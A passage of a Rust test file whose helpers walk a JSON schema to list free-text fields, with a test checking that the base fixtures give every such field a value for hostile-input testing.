            schema_text_fields(schema, sub, path, out);
        }
    }
    if is_string_type(node) && node.get("const").is_none() && node.get("enum").is_none() {
        out.insert(path.to_string());
    }
    for (key, sub) in node["properties"].as_object().into_iter().flatten() {
        schema_text_fields(schema, sub, &format!("{path}.{key}"), out);
    }
    if node["additionalProperties"].is_object() {
        schema_text_fields(
            schema,
            &node["additionalProperties"],
            &format!("{path}.*"),
            out,
        );
    }
    if node["items"].is_object() {
        schema_text_fields(schema, &node["items"], &format!("{path}[]"), out);
    }
}

/// The schema patterns of the string values in `value`.
/// The schema node that describes `value`, past `$ref`s and the `anyOf`/`oneOf` branches
/// that do not fit it.
fn node_for<'a>(schema: &'a Json, node: &'a Json, value: &Json) -> &'a Json {
    let node = resolve(schema, node);
    for branch in ["anyOf", "oneOf"] {
        for sub in node[branch].as_array().into_iter().flatten() {
            let sub = resolve(schema, sub);
            let fits = match value {
                Json::String(_) => is_string_type(sub),
                Json::Object(map) => {
                    sub["type"] == "object"
                        && (sub["additionalProperties"].is_object()
                            || map.keys().all(|k| sub["properties"].get(k).is_some()))
                }
                _ => false,
            };
            if fits {
                return node_for(schema, sub, value);
            }
        }
    }
    node
}

/// The schema node of the value at `pointer` in `doc`.
fn schema_at<'a>(schema: &'a Json, doc: &Json, pointer: &str) -> &'a Json {
    let mut node = node_for(schema, schema, doc);
    let mut value = doc;
    for segment in pointer.split('/').skip(1) {
        let segment = segment.replace("~1", "/").replace("~0", "~");
        (node, value) = match value {
            Json::Object(map) => (
                node["properties"]
                    .get(&segment)
                    .unwrap_or(&node["additionalProperties"]),
                &map[&segment],
            ),
            Json::Array(items) => (
                &node["items"],
                &items[segment.parse::<usize>().expect("an index")],
            ),
            _ => unreachable!("a pointer only goes through collections"),
        };
        node = node_for(schema, node, value);
    }
    node
}

/// The schema patterns of the string values in `value`.
fn instance_text_fields(
    schema: &Json,
    node: &Json,
    value: &Json,
    path: &str,
    out: &mut BTreeSet<String>,
) {
    let node = node_for(schema, node, value);
    match value {
        Json::String(_) => {
            out.insert(path.to_string());
        }
        Json::Array(items) => {
            for item in items {
                instance_text_fields(schema, &node["items"], item, &format!("{path}[]"), out);
            }
        }
        Json::Object(map) => {
            for (key, child) in map {
                match node["properties"].get(key) {
                    Some(sub) => {
                        instance_text_fields(schema, sub, child, &format!("{path}.{key}"), out);
                    }
                    None => instance_text_fields(
                        schema,
                        &node["additionalProperties"],
                        child,
                        &format!("{path}.*"),
                        out,
                    ),
                }
            }
        }
        _ => {}
    }
}

#[test]
fn every_free_text_field_is_given_hostile_values() {
    let schema: Json = serde_json::from_str(&blueprint::blueprint::json_schema()).expect("JSON");
    let mut fields = BTreeSet::new();
    schema_text_fields(&schema, &schema, "", &mut fields);
    assert!(fields.len() > 60, "{fields:?}");
    let mut covered = BTreeSet::new();
    for (name, source) in base_sources() {
        let bp = blueprint::validate::validate_source(&name, &source).expect("valid");
        let doc = serde_json::to_value(&bp).expect("serializes");
        instance_text_fields(&schema, &schema, &doc, "", &mut covered);
    }
    let missing: Vec<&String> = fields.difference(&covered).collect();
    assert!(
        missing.is_empty(),
        "no base sets these free-text fields (add them to tests/hostile/every-field.yaml): {missing:?}"
    );
}
